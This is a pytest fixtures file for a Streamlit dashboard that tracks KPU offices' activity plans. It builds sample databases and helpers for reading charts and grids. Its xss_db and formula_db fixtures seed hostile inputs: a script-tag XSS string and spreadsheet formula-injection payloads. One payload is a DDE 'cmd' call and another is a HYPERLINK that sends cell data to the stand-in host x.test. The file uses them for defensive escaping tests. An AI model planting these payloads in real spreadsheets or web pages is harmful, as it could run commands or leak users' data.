"""Fixtures for the dashboard tests: sample databases built once per session, hand-made plans, and
the AppTest helpers the tests of every page share (tests/test_app_<page>.py).

The sample DB (the app's own demo workbooks, as on first start) takes a few seconds to build, so
it is built once and each test gets a fresh copy of the file.  AppTest runs the app in process, so
plotly charts are read back from their JSON spec (typed arrays as base64) and coloured grids from
the Styler Streamlit sends.
"""

import base64
import hashlib
import json
import re
import shutil
from pathlib import Path
from xml.etree import ElementTree

import numpy as np
import pyarrow as pa
import pytest
from streamlit.testing.v1 import AppTest

from rbdash.model import Activity, Plan
from rbdash.samples import ensure_database
from rbdash.store import Store

ROOT = Path(__file__).resolve().parents[1]
APP = str(ROOT / "app.py")
PAGES = ["pages/beranda.py", "pages/impor.py", "pages/gantt.py", "pages/cakupan.py", "pages/perbandingan.py",
         "pages/progres.py", "pages/verifikasi.py", "pages/riwayat.py"]
XSS = "<script>alert(1)</script>"
BOLD = "<b>x</b>"
# workbook text a spreadsheet would evaluate (issue 18.3)
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1)', "+1+1", "-2+3", "@SUM(A1)"]


@pytest.fixture(scope="session")
def sample_db_file(tmp_path_factory):
    """The first-start database (demo sample workbooks), built once."""
    root = tmp_path_factory.mktemp("sample")
    db = root / "rbdash.duckdb"
    results = ensure_database(db, root / "samples")
    assert results and all(o.status.value == "new" for o in results), results
    return db


@pytest.fixture
def sample_db(sample_db_file, tmp_path, monkeypatch):
    """A private copy of the sample DB, selected for the app through RBDASH_DB."""
    db = tmp_path / "rbdash.duckdb"
    shutil.copy(sample_db_file, db)
    monkeypatch.setenv("RBDASH_DB", str(db))
    monkeypatch.setenv("RBDASH_SAMPLES", str(tmp_path / "no-samples"))
    return db


@pytest.fixture
def empty_db(tmp_path, monkeypatch):
    """An initialised database without any plan (the file exists, so no samples are loaded)."""
    db = tmp_path / "empty.duckdb"
    Store(db)
    monkeypatch.setenv("RBDASH_DB", str(db))
    monkeypatch.setenv("RBDASH_SAMPLES", str(tmp_path / "no-samples"))
    return db


def make_plan(satker, year, rows, has_realization=False, as_of=None, source=None):
    """A Plan without a workbook: rows = (area, kegiatan, indikator, planned months, realised months)."""
    acts = [Activity(sheet="Renaksi", row=10 + i, area_no=area, kegiatan=keg, sub_kegiatan=None, indikator=ind,
                     planned_months=list(planned), realized_months=list(realized))
            for i, (area, keg, ind, planned, realized) in enumerate(rows)]
    digest = hashlib.sha256(repr((satker, year, rows)).encode()).hexdigest()
    return Plan(satker=satker, year=year, activities=acts, warnings=[], source_name=source or f"{satker}.xlsx",
                sha256=digest, as_of_month=as_of, has_realization=has_realization)


@pytest.fixture
def small_store(db_location):
    """Three offices of 2024: A and B report realisation, C reports nothing (on each backend)."""
    store = Store(db_location("small"))
    store.import_plan(make_plan("KPU Kota Alpha", 2024, [
        (1, "Kegiatan A1", "Indikator A1", [1, 2, 3], [1, 2]),      # 2 of 3 due by Mar
        (2, "Kegiatan A2", "Indikator A2", [2, 6], [2, 4]),          # Feb done, Apr outside schedule
    ], has_realization=True, as_of=3), actor="test")
    store.import_plan(make_plan("KPU Kota Beta", 2024, [
        (1, "Kegiatan B1", "Indikator B1", [1, 2], []),              # 0 of 2
        (3, "Kegiatan B3", "Indikator B3", [3], [3]),                # 1 of 1
    ], has_realization=True, as_of=3), actor="test")
    store.import_plan(make_plan("KPU Kota Gamma", 2024, [
        (1, "Kegiatan C1", XSS, [1, 2, 3], []),
        (8, BOLD, "Indikator C8", [12], []),
    ]), actor="test")
    yield store
    store.close()


def warm_pages_manager():
    """Make AppTest behave like a server that has already served app.py once (the normal state).

    A pages/ folder makes Streamlit start in its legacy pages-directory mode until app.py's
    st.navigation runs once per process (pages/_ui.leave_legacy_mode); AppTest re-enters that mode
    before *every* run, so each run would first start the page alone and rerun it through app.py,
    and a button press being tested would be used up by that first start (on a server no button
    can be pressed before the mode is left).  Returns the function that undoes the patch.
    """
    import streamlit.testing.v1.app_test as app_test
    from streamlit.runtime.pages_manager import PagesManager

    class WarmPagesManager(PagesManager):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            PagesManager.uses_pages_directory = False

    original = app_test.PagesManager
    app_test.PagesManager = WarmPagesManager

    def undo():
        app_test.PagesManager = original
        PagesManager.uses_pages_directory = None
    return undo


@pytest.fixture
def warm_server():
    """AppTest as a warm server; the cold start itself is covered by test_app_pages.py::test_cold_*."""
    undo = warm_pages_manager()
    yield
    undo()


# --------------------------------------------------------------------------------- AppTest helpers

def start(page=None, **query):
    at = AppTest.from_file(APP, default_timeout=30)
    at.query_params.update(query)
    at.run()
    if page:
        at.switch_page(page).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def metrics(at):
    return {m.label: m.value for m in at.metric}


def decode(value):
    """A plotly array from JSON: plain list or {'dtype', 'bdata', 'shape'}."""
    if isinstance(value, dict) and "bdata" in value:
        arr = np.frombuffer(base64.b64decode(value["bdata"]), dtype=np.dtype(value["dtype"]))
        if "shape" in value:
            arr = arr.reshape([int(n) for n in str(value["shape"]).split(",")])
        return arr
    return np.array(value, dtype=object)


def charts(at):
    return [json.loads(e.proto.spec) for e in at.get("plotly_chart")]


SVG = "{http://www.w3.org/2000/svg}"


def drawings(at):
    """The page's SVG drawings shown as images (rbdash.charts.trend_svg in Markdown, pages/perbandingan
    drawing), each as (its parsed XML, the texts it writes in order, the image's alternative text)."""
    out = []
    for e in at.markdown:
        found = IMAGE.fullmatch(e.value)
        if found:
            root = ElementTree.fromstring(base64.b64decode(found["data"]))
            alt = re.sub(r"\\(.)", r"\1", found["alt"])  # Markdown's escapes undone
            out.append((root, [t.text or "" for t in root.iter(f"{SVG}text")], alt))
    return out


IMAGE = re.compile(r"!\[(?P<alt>.*)\]\(data:image/svg\+xml;base64,(?P<data>[A-Za-z0-9+/=]+)\)", re.S)


CSS_RULE = re.compile(r"([^{}]+)\{([^{}]*)\}")


CSS_CELL = re.compile(r"_row(\d+)_col(\d+)")


def grids(at):
    """The coloured grids on the page (st.dataframe of a pandas Styler), each as (numbers, the texts
    the grid shows, {(row, column): the cell's CSS}), read from what is sent to the browser."""
    out = []
    for d in at.dataframe:
        styler = d.proto.arrow_data.styler
        if not styler.styles:
            continue
        shown = pa.ipc.open_stream(styler.display_values).read_pandas()
        css = {}
        for selectors, body in CSS_RULE.findall(styler.styles):
            for r, c in CSS_CELL.findall(selectors):
                css[int(r), int(c)] = " ".join(body.split())
        out.append((d.value, shown, css))
    return out


def background(css):
    return re.search(r"background-color:\s*([^;]+)", css).group(1).strip()


def texts(at):
    """Every text the page shows outside tables and charts."""
    out = []
    for kind in ("title", "header", "subheader", "markdown", "caption", "text", "info", "success", "warning", "error"):
        out += [str(e.value) for e in getattr(at, kind)]
    return out


def cold(monkeypatch):
    """AppTest without the warm-server patch: every run starts like the first request of a fresh
    process (Streamlit's legacy pages-directory mode, because of the pages/ folder)."""
    from streamlit.runtime.pages_manager import PagesManager
    import streamlit.testing.v1.app_test as app_test
    monkeypatch.setattr(app_test, "PagesManager", PagesManager)
    return AppTest.from_file(APP, default_timeout=30)


@pytest.fixture
def meeting_db(tmp_path, monkeypatch):
    """2024, as of Mar.  Jawa Timur: KPU Provinsi 2 of 3 due done, Kota Malang 1 of 2, Gresik (spelt
    'KPU KAB. GRESIK') no realisation.  Kalimantan Selatan: Banjarbaru 0 of 1.  'KPU Kota Fiktif' matches
    no official office and has no data."""
    db = tmp_path / "meeting.duckdb"
    store = Store(db)
    for satker, rows, has in [
        ("KPU Provinsi Jawa Timur", [(1, "K", "I1", [1, 2, 3], [1, 2])], True),
        ("KPU Kota Malang", [(2, "K", "I2", [1, 2], [2]), (3, "K", "I3", [5], [])], True),
        ("KPU KAB. GRESIK", [(1, "K", "I4", [1], [])], False),
        ("KPU Kota Banjarbaru", [(1, "K", "I5", [3], [])], True),
        ("KPU Kota Fiktif", [(1, "K", "I6", [1], [])], False),
    ]:
        store.import_plan(make_plan(satker, 2024, rows, has_realization=has, as_of=3), actor="test")
    monkeypatch.setenv("RBDASH_DB", str(db))
    monkeypatch.setenv("RBDASH_SAMPLES", str(tmp_path / "no-samples"))
    return db


HOSTILE_OFFICE = "KPU Kota <i>Ganda</i>"


@pytest.fixture
def xss_db(tmp_path, monkeypatch):
    db = tmp_path / "xss.duckdb"
    store = Store(db)
    store.import_plan(make_plan("KPU Kota Gamma", 2024, [
        (1, BOLD, XSS, [1, 2, 3], [1]), (2, "Kegiatan <i>dua</i>", "Indikator biasa", [2], [])],
        has_realization=True, as_of=3, source="<b>x</b>.xlsx"), actor=BOLD)
    store.import_plan(make_plan(HOSTILE_OFFICE, 2024, [(1, "K", "I", [1], [1])], has_realization=True, as_of=3))
    monkeypatch.setenv("RBDASH_DB", str(db))
    return db


FORMULA_OFFICE = FORMULAS[1]   # an office name as odd as a workbook's title can make it


@pytest.fixture
def formula_db(tmp_path, monkeypatch):
    db = tmp_path / "formula.duckdb"
    store = Store(db)
    store.import_plan(make_plan("KPU Kota Gamma", 2024, [
        (1, FORMULAS[0], FORMULAS[1], [1, 2, 3], [1]), (2, "- Penyusunan SOP", FORMULAS[4], [2], [2])],
        has_realization=True, as_of=3, source="=evil.xlsx"), actor="+budi")
    store.import_plan(make_plan(FORMULA_OFFICE, 2024, [(1, FORMULAS[2], FORMULAS[3], [1], [1])],
                                has_realization=True, as_of=3))
    store.close()
    monkeypatch.setenv("RBDASH_DB", str(db))
    monkeypatch.setenv("RBDASH_SAMPLES", str(tmp_path / "no-samples"))
    return db


def formula_cells(at):
    """Text cells starting like a formula in what the page's grids would download as CSV."""
    frames = [d.value for d in at.dataframe] + [e.value for e in at.data_editor]
    return [v for f in frames for col in f.columns for v in f[col]
            if isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r"))]
